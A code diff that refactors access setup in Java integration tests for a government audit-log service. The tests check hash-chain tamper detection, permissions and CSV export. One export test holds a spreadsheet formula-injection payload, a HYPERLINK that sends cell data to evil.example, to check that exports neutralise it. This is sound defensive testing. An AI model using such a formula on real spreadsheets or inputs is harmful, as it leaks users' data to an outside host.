@@ -38,6 +38,7 @@ import cn.gov.laoshan.district.audit.service.AuditStore;
 import cn.gov.laoshan.district.audit.service.CallerContext;
 import cn.gov.laoshan.district.core.db.Database;
 import cn.gov.laoshan.district.testkit.TestDatabase;
+import cn.gov.laoshan.district.testdoubles.TestAccess;
 
 /** The audit chain on every database this machine has (Derby always, PostgreSQL where configured). */
 class AuditChainIT {
@@ -70,7 +71,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void appendedRecordsVerifyAndCarryWhoWhenAndWhat(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            TestAccess access = new TestAccess(AUDITOR, ALL);
+            TestAccess access = new TestAccess().as(AUDITOR, ALL);
             Clock clock = Clock.fixed(Instant.parse("2026-11-27T02:00:00.123456Z"), ZoneOffset.UTC);
             AuditService audit = service(database, access, clock);
 
@@ -105,7 +106,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void changingTheAfterTextOfARecordInTheDatabaseIsNamed(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            AuditService audit = service(database, new TestAccess(AUDITOR, ALL), Clock.systemUTC());
+            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
             appendSome(audit, 40);
             sql(database, "update audit_record set after_state = ? where id = ?", "{\"status\":\"已结案\",\"n\":17}", 17);
 
@@ -122,7 +123,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void aRecordChangedAndRehashedBreaksTheLinkOfTheNextOne(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            AuditService audit = service(database, new TestAccess(AUDITOR, ALL), Clock.systemUTC());
+            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
             appendSome(audit, 20);
             AuditEntry original = audit.get(9).orElseThrow();
             AuditEntry forged = new AuditEntry(0, original.occurredAt(), original.actorLogin(), original.actorName(),
@@ -141,7 +142,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void aDeletedRecordIsNamedAsAGap(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            AuditService audit = service(database, new TestAccess(AUDITOR, ALL), Clock.systemUTC());
+            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
             appendSome(audit, 25);
             sql(database, "delete from audit_record where id = 12");
 
@@ -156,7 +157,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void deletingTheNewestRecordsIsNamedAgainstTheChainHead(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            AuditService audit = service(database, new TestAccess(AUDITOR, ALL), Clock.systemUTC());
+            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
             appendSome(audit, 10);
             sql(database, "delete from audit_record where id >= 9");
 
@@ -170,7 +171,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void concurrentAppendsFromThreadsAndFromTwoNodesKeepOneChain(TestDatabase test) throws Exception {
         try (test; Database node1 = Database.open(test.settings()); Database node2 = Database.open(test.settings())) {
-            TestAccess access = new TestAccess(AUDITOR, ALL);
+            TestAccess access = new TestAccess().as(AUDITOR, ALL);
             AuditService one = service(node1, access, Clock.systemUTC());
             // a second node: its own pool and its own JVM lock, the same tables
             AuditService two = new AuditService(new AuditStore(node2.dataSource(Database.PLATFORM_SCHEMA)),
@@ -207,7 +208,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void aHundredThousandRecordsVerifyInBatches(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            AuditService audit = service(database, new TestAccess(AUDITOR, ALL), Clock.systemUTC());
+            AuditService audit = service(database, new TestAccess().as(AUDITOR, ALL), Clock.systemUTC());
             AuditStore store = new AuditStore(database.dataSource(Database.PLATFORM_SCHEMA));
             long begin = System.nanoTime();
             for (int batch = 0; batch < 100; batch++) {
@@ -240,7 +241,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void theViewerFiltersPagesCountsAndExports(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            TestAccess access = new TestAccess(AUDITOR, ALL);
+            TestAccess access = new TestAccess().as(AUDITOR, ALL);
             AtomicReference<Instant> now = new AtomicReference<>(Instant.parse("2026-11-20T01:00:00Z"));
             Clock clock = new Clock() {
                 @Override
@@ -261,7 +262,7 @@ class AuditChainIT {
             AuditService audit = service(database, access, clock);
             audit.record("identity", "sign-in.success", "user", "zhangsan", null, null);
             now.set(Instant.parse("2026-11-21T01:00:00Z"));
-            access.become(new CurrentUser("zhangsan", "张三", "justice", null, false), ALL);
+            access.as(new CurrentUser("zhangsan", "张三", "justice", null, false), ALL);
             audit.record("mediation", "case.register", "MediationCase", "崂调〔2026〕0001号", null,
                     "{\"type\":\"劳动争议\",\"note\":\"含逗号, \\\"引号\\\"\"}");
             now.set(Instant.parse("2026-11-22T01:00:00Z"));
@@ -302,7 +303,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void aTypedFormulaIsExportedAsTextThatNoSpreadsheetRuns(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            TestAccess access = new TestAccess(AUDITOR, ALL);
+            TestAccess access = new TestAccess().as(AUDITOR, ALL);
             AuditService audit = service(database, access, Clock.systemUTC());
             // what a stranger types as the login of a failed sign-in lands in the object id
             String typed = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
@@ -338,7 +339,7 @@ class AuditChainIT {
     @MethodSource("databases")
     void readingVerifyingAndExportingNeedTheirPermissionsWritingDoesNot(TestDatabase test) throws Exception {
         try (test; Database database = Database.open(test.settings())) {
-            TestAccess access = new TestAccess(new CurrentUser("staff", "工作人员", "justice", null, false), Set.of());
+            TestAccess access = new TestAccess().as(new CurrentUser("staff", "工作人员", "justice", null, false), Set.of());
             AuditService audit = service(database, access, Clock.systemUTC());
             audit.record("mediation", "case.register", null, null, null, null);
             assertThrows(AccessDeniedException.class, () -> audit.find(AuditFilter.ALL, 0, 10));
@@ -347,7 +348,7 @@ class AuditChainIT {
             assertThrows(AccessDeniedException.class, () -> audit.export(AuditFilter.ALL, Locale.ENGLISH));
             assertThrows(IllegalArgumentException.class, () -> audit.record("Bad Source", "x", null, null, null, null));
 
-            access.become(new CurrentUser("viewer", "查阅人", "platform", null, false), Set.of(AuditQuery.VIEW));
+            access.as(new CurrentUser("viewer", "查阅人", "platform", null, false), Set.of(AuditQuery.VIEW));
             assertEquals(1, audit.count(AuditFilter.ALL));
             assertThrows(AccessDeniedException.class, audit::verify);
         }
